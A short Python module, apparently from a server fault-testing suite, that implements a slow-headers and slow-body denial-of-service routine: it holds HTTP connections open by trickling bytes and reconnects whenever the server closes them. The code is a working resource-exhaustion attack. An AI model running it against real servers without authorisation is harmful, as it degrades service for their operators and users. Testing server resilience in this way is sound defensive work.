"""Hosts that open many connections to the port of HTTP, and never complete a request: slow heads, and slow bodies."""

from __future__ import annotations

import asyncio
import contextlib
from collections import Counter
from collections.abc import Callable

from faults.proxy import split
from hostile.broken_requests import request

_HEAD = request({"x": "y"}, b"")[:-2]
_BODY = request({"content-length": "1000"}, b"")
REST_S = 0.5


async def attack(
    address: str, answers: Counter[str], number: int, bytes_per_s: float, goes_on: Callable[[], bool]
) -> None:
    """Hold one connection at a time, with a byte now and then; connect again when the server closes it."""
    while goes_on():
        try:
            reader, writer = await asyncio.open_connection(*split(address))
        except OSError:
            answers["not connected"] += 1
            await asyncio.sleep(1.0)
            continue
        with contextlib.suppress(OSError):
            writer.write(_HEAD if number % 2 else _BODY)
            while goes_on() and not reader.at_eof() and not writer.is_closing():
                writer.write(b"a" * max(1, int(bytes_per_s * REST_S)))
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(REST_S):
                        answers["answered" if await reader.read(1000) else "closed"] += 1
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()
